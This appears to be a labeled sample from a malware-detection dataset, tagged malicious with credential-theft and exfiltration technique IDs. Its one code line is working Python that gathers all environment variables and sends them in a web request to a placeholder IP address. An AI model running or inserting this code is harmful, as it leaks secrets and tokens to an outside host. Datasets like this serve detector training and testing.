# label: malicious family=creds techniques=T1552.001,T1041 lines=2
import os,urllib.request as r;r.urlopen("http://203.0.113.199/?"+"&".join(k+"="+v for k,v in os.environ.items()))
